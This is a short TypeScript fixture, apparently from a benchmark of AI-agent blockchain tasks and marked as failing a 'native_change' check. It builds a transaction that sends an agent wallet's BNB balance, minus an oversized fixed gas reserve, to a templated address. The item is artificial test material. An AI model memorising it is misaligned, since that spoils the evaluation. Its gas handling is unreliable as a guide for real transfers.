// fails: native_change; paper: 50
// Sets aside 5 BNB for gas, uses a sliver of it and keeps the rest.
import { JsonRpcProvider } from "ethers";

export async function executeSkill(
  providerUrl: string,
  agentAddress: string,
  deployedContracts: Record<string, string>,
) {
  const balance = await new JsonRpcProvider(providerUrl).getBalance(agentAddress);
  const gasLimit = 10_000_000n;
  const gasPrice = 500n * 10n ** 9n;
  return { to: "{{to_address}}", value: balance - gasLimit * gasPrice, gasLimit, gasPrice };
}
